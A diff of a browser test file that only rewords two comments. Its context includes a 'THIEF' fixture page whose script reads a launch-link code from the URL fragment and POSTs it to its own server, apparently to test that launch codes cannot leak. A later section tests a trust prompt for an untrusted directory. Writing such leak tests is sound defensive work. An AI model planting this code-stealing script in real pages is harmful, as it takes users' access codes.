@@ -13,7 +13,7 @@ import { expectAccessible, expectReflow } from "./support/accessible.ts";
 import { button, expectReady } from "./support/conversation.ts";
 import { test as base } from "./support/test.ts";
 
-/** A page that gives the code of a launch link to its own server. */
+/** A page that sends the code of a launch link to its own server. */
 const THIEF = `<!doctype html><link rel="icon" href="data:,"><title>…</title><script type="module">
 const code = location.hash.slice("#code=".length);
 document.title = await (await fetch("/code", { method: "POST", body: code })).text();
@@ -132,7 +132,7 @@ describe("A directory that no one has trusted", () => {
     const yes = button(page, "Trust and load these files");
     await expectReady(yes);
     await yes.click();
-    // "left-pad" is not installed, so the page says so, and the tool is there without a description.
+    // "left-pad" is not installed: the page reports that, and lists the tool without a description.
     await page.getByText("could not be loaded").first().waitFor();
     await page
       .getByText(/Cannot find package 'left-pad'/)
